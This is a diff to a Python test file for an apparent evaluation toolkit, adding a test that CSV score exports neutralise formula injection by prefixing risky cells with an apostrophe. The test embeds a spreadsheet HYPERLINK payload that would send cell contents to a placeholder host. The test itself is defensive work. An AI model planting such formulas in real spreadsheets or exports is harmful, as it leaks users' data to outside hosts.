@@ -27,7 +27,7 @@ from evalkit.report.html import environment
 from evalkit.report.layout import _WINDOWS_RESERVED, district_path, safe_stem
 from evalkit.yamlfile import _LineLoader, load_yaml
 from tests.reports_tree import snapshot
-from tests.tiny import TINY, edit
+from tests.tiny import TINY, copy_tiny, edit
 
 EVALKIT = Path(__file__).parents[1] / "evalkit"
 
@@ -269,3 +269,29 @@ def test_a_score_cache_others_can_write_is_never_unpickled(tmp_path, monkeypatch
     assert scored.campaign.id == "tiny" and len(scored.scores.table) == 3
     shared.chmod(0o700)  # once only this user may write it, the (now valid) entry is used again
     assert cache.load_scored(campaign).campaign.id == "tiny" and not (tmp_path / "pwned").exists()
+
+
+def test_csv_cells_that_would_run_as_formulas_are_written_as_text(tmp_path):
+    """OWASP "CSV Injection": a name starting with = + - @ is prefixed with ' in scores.csv, so Excel
+    shows it instead of running it; scores.xlsx keeps it unchanged as a string cell."""
+    import csv
+    import io
+
+    from evalkit.outputs import scores_csv, scores_xlsx
+    from evalkit.scoring import score
+
+    payload = '=HYPERLINK("http://example.invalid/?"&A1,"点击")'
+    campaign_file = copy_tiny(tmp_path / "campaign")
+    pilots = campaign_file.parent / "pilots.csv"
+    lines = pilots.read_text(encoding="utf-8").splitlines(keepends=True)
+    first = lines[1].split(",")
+    first[1] = '"' + payload.replace('"', '""') + '"'
+    lines[1] = ",".join(first)
+    pilots.write_text("".join(lines), encoding="utf-8")
+    scores = score(load_campaign(campaign_file))
+    rows = list(csv.DictReader(io.StringIO(scores_csv(scores).decode("utf-8-sig"))))
+    assert rows[0]["name"] == "'" + payload
+    assert all(not row["name"].startswith(("=", "+", "-", "@")) for row in rows)
+    assert [row["name"] for row in rows[1:]] == scores.table["name"].tolist()[1:]  # others as they are
+    book = openpyxl.load_workbook(io.BytesIO(scores_xlsx(scores)))
+    assert book.worksheets[0]["B2"].value == payload and book.worksheets[0]["B2"].data_type == "s"
